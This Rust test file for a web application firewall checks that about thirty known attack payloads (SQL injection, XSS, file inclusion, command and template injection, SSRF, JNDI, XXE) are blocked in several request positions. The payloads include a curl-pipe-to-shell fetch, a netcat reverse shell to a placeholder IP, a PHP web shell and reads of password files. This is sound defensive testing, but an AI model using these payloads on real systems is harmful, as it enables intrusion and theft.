//! Well-known attack payloads, written by us, per class: each must be blocked at paranoia 1
//! when sent as a query argument, a form field and a JSON field.

use palisade_waf::{Action, Engine, Request, RuleSet, WafSettings};

const PAYLOADS: &[(&str, &str)] = &[
    ("sqli", "1' AND SLEEP(5)-- -"),
    ("sqli", "' OR 1=1 LIMIT 1 -- "),
    ("sqli", "1 UNION SELECT username, password FROM users"),
    ("sqli", "admin' #"),
    ("sqli", "1); DROP TABLE accounts; --"),
    ("sqli", "' || (SELECT pg_sleep(10)) || '"),
    (
        "sqli",
        "1' AND extractvalue(1, concat(0x7e, (SELECT user()))) -- ",
    ),
    ("xss", "\"><svg/onload=alert(1)>"),
    ("xss", "<img src=1 onerror=confirm(document.domain)>"),
    ("xss", "javascript:alert(1)//"),
    ("xss", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
    ("xss", "<details open ontoggle=alert(1)>"),
    ("lfi", "....//....//....//etc/passwd"),
    ("lfi", "..%252f..%252f..%252fetc%252fshadow"),
    (
        "lfi",
        "php://filter/read=convert.base64-encode/resource=config.php",
    ),
    ("rfi", "http://203.0.113.7/shell.txt?"),
    ("rce", "; curl http://evil.example/x.sh | sh"),
    ("rce", "$(whoami)"),
    ("rce", "`id`"),
    ("rce", "| nc -e /bin/sh 203.0.113.7 4444"),
    ("rce", "<?php system($_GET['c']); ?>"),
    ("ssti", "{{7*7}}"),
    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    (
        "ssti",
        "{{request.application.__globals__.__builtins__.__import__('os')}}",
    ),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "http://127.0.0.1:6379/"),
    ("ssrf", "gopher://localhost:11211/_stats"),
    ("jndi", "${jndi:ldap://evil.example/a}"),
    ("jndi", "${${lower:j}${lower:n}di:rmi://evil.example/a}"),
    (
        "xxe",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    ),
    ("crlf", "x%0d%0aSet-Cookie:%20admin=1"),
    ("ldap", "*)(uid=*))(|(uid=*"),
];

fn enc(v: &str) -> String {
    v.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[test]
fn known_payloads_are_blocked_in_every_position() {
    let engine = Engine::new(RuleSet::embedded().expect("embedded rules compile"));
    let settings = WafSettings::default();
    let mut missed = Vec::new();
    for (class, payload) in PAYLOADS {
        let target = format!("/search?q={}", enc(payload));
        let form = format!("q={}", enc(payload));
        let json = serde_json::json!({ "q": payload }).to_string();
        let reqs = [
            ("query", Request::new("GET", &target)),
            (
                "form",
                Request::new("POST", "/f")
                    .header("content-type", b"application/x-www-form-urlencoded")
                    .body(form.as_bytes()),
            ),
            (
                "json",
                Request::new("POST", "/f")
                    .header("content-type", b"application/json")
                    .body(json.as_bytes()),
            ),
        ];
        for (pos, req) in reqs {
            if engine.inspect(&req, &settings, None).action != Action::Block {
                missed.push(format!("{class} in {pos}: {payload}"));
            }
        }
    }
    assert!(missed.is_empty(), "not blocked:\n{}", missed.join("\n"));
}
